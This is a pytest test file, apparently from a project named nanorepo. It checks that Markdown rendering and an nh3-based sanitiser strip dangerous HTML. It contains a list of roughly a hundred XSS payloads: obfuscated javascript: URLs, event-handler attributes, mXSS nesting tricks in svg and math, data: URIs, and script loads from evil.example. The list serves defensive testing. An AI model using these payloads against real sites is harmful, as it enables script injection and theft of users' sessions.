"""Post Markdown reaches a browser only as allowlisted HTML: XSS payloads never survive."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from nanorepo.annotations import MAX_BODY_CHARS, plain_text, render_markdown
from nanorepo.annotations._markdown import _sanitise
from nanorepo.errors import InvalidInput

ALLOWED: dict[str, set[str]] = {
    **{
        t: set()
        for t in [
            "blockquote",
            "br",
            "del",
            "em",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "p",
            "pre",
            "s",
            "strong",
        ]
    },
    **{t: set() for t in ["table", "tbody", "td", "th", "thead", "tr", "ul"]},
    "a": {"href", "title", "rel"},
    "code": {"class"},
    "ol": {"start"},
}
WITH_IMAGES = {**ALLOWED, "img": {"src", "alt", "title"}}
SCHEMES = {"http", "https", "mailto"}
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


def scheme(url: str) -> str | None:
    """The scheme a browser would see: entities decoded, blanks/controls gone, lower case."""
    clean = _CONTROL.sub("", html.unescape(url)).lower()
    head = re.split(r"[/?#]", clean, maxsplit=1)[0]
    return head.split(":", 1)[0] if ":" in head else None


class Checker(HTMLParser):
    """Fails on anything outside the allowlist (elements, attributes, URL schemes)."""

    def __init__(self, allowed: dict[str, set[str]], image_schemes: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed, self.image_schemes = allowed, image_schemes
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.allowed:
            self.problems.append(f"element <{tag}>")
            return
        for name, value in attrs:
            if name.startswith("on") or name == "style" or name not in self.allowed[tag]:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in {"href", "src"}:
                ok = self.image_schemes if tag == "img" else SCHEMES
                if scheme(value or "") not in ok:
                    self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "class" and not re.fullmatch(r"language-[\w+#.-]+", value or ""):
                self.problems.append(f"class={value!r}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")


def problems(out: str, *, images: bool = False) -> list[str]:
    c = Checker(WITH_IMAGES if images else ALLOWED, {"https"})
    c.feed(out)
    c.close()
    return c.problems


# -- payloads ------------------------------------------------------------------------------

BAD_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:alert(document.cookie)//",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097vascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "java%0ascript:alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DaTa:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "//evil.example/x.js",
    "/hub/logout",
    "ftp://evil.example/",
]
CONTEXTS = [
    "[x]({u})",
    "![x]({u})",
    "[x][r]\n\n[r]: {u}",
    "<{u}>",
    '<a href="{u}">x</a>',
    '<img src="{u}">',
    '<iframe src="{u}"></iframe>',
]
HANDWRITTEN = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<template><script>alert(1)</script></template>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<textarea><script>alert(1)</script></textarea>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
    '<img """><script>alert(1)</script>">',
    '<a href="https://ok.example"<img src=x onerror=alert(1)>x</a>',
    "<a href=\"https://ok.example\" title='x' onmouseover='alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    '![" onerror="alert(1)](https://ok.example/a.png)',
    '![x](https://ok.example/a.png" onerror="alert(1))',
    "![x](http://insecure.example/a.png)",
    "[x](<javascript:alert(1)>)",
    "[x](javascript:alert`1`)",
    "[x]( javascript:alert(1) )",
    "[a](javascript:window.onerror=alert;throw%201)",
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "https://ok.example/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\ncode\n```',
    "```javascript onclick=alert(1)\ncode\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "~~<script>alert(1)</script>~~",
    "# <svg onload=alert(1)>",
    "**<iframe src=javascript:alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
]
PAYLOADS = [c.format(u=u) for u in BAD_URLS for c in CONTEXTS] + HANDWRITTEN


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("images", [False, True], ids=["no-images", "images"])
def test_no_payload_survives_rendering(images: bool) -> None:
    found = {p: problems(render_markdown(p, allow_remote_images=images), images=images)
             for p in PAYLOADS}  # fmt: skip
    assert {p: v for p, v in found.items() if v} == {}


@pytest.mark.parametrize("images", [False, True], ids=["no-images", "images"])
def test_sanitiser_alone_stops_raw_html(images: bool) -> None:
    # Defence in depth: were the renderer ever to pass raw HTML, nh3 still stops it.
    found = {p: problems(_sanitise(p, allow_remote_images=images), images=images)
             for p in PAYLOADS}  # fmt: skip
    assert {p: v for p, v in found.items() if v} == {}


def test_dangerous_content_is_not_even_text_markup() -> None:
    out = render_markdown("<script>alert(1)</script>")
    assert "<script" not in out and "&lt;script&gt;" in out  # shown, not run
    assert "alert" not in _sanitise("<script>alert(1)</script><style>x{}</style>ok")


def test_normal_markdown_still_renders() -> None:
    md = """# Ring diameter

The pores measure *107 nm* on **average**, see [the paper](https://doi.org/10.1/x "paper")
and <mailto:ada@example.org>. ~~old~~

- one
- two

3. three
4. four

> quoted

`inline` and

```python
print("npc")
```

| ring | diameter (nm) |
|------|---------------|
| cytoplasmic | 107 |
"""
    out = render_markdown(md)
    assert problems(out) == []
    for fragment in [
        "<h1>Ring diameter</h1>",
        "<em>107 nm</em>",
        "<strong>average</strong>",
        '<a href="https://doi.org/10.1/x" title="paper" rel="nofollow noopener noreferrer ugc">',
        'href="mailto:ada@example.org"',
        "<s>old</s>",
        "<li>one</li>",
        '<ol start="3">',
        "<blockquote>",
        "<code>inline</code>",
        '<code class="language-python">',
        "<th>ring</th>",
        "<td>107</td>",
    ]:
        assert fragment in out, fragment


def test_images_are_links_unless_allowed_and_https_only() -> None:
    md = "![pores](https://img.example/a.png) ![old](http://img.example/b.png)"
    out = render_markdown(md)
    assert "<img" not in out
    assert '<a href="https://img.example/a.png"' in out and ">pores</a>" in out
    out = render_markdown(md, allow_remote_images=True)
    assert '<img src="https://img.example/a.png" alt="pores">' in out
    assert 'src="http://' not in out


def test_body_length_is_limited() -> None:
    render_markdown("x" * MAX_BODY_CHARS)
    with pytest.raises(InvalidInput, match="at most 100,000") as info:
        render_markdown("x" * (MAX_BODY_CHARS + 1))
    assert info.value.hint
    with pytest.raises(InvalidInput, match="must be text"):
        render_markdown(None)  # type: ignore[arg-type]


def test_plain_text_fields() -> None:
    assert plain_text("  Ring\tdiameter \n of NPCs ", "title", 100) == "Ring diameter of NPCs"
    assert plain_text("a\x00b\x1b[31mc\u202eevil", "title", 100) == "ab[31mcevil"
    assert plain_text("<b>bold</b>", "title", 100) == "<b>bold</b>"  # text, shown as text
    with pytest.raises(InvalidInput, match="title is empty"):
        plain_text(" \x00\t ", "title", 100)
    with pytest.raises(InvalidInput, match="tag has 5 characters; at most 4"):
        plain_text("abcde", "tag", 4)
    with pytest.raises(InvalidInput, match="title must be text"):
        plain_text(3, "title", 100)


def test_the_checker_itself_catches_what_it_should() -> None:
    assert problems('<a href="jav&#x09;ascript:alert(1)">x</a>')
    assert problems('<a href=" JAVASCRIPT:x">x</a>')
    assert problems("<p onclick=x>x</p>") and problems('<p style="x">x</p>')
    assert problems("<svg></svg>") and problems("<!-- x -->")
    assert problems('<img src="https://a.example/x.png">')  # images off
    assert problems('<img src="http://a.example/x.png">', images=True)
    assert problems('<a href="/relative">x</a>')
    assert not problems('<a href="https://a.example" rel="nofollow">x</a>')
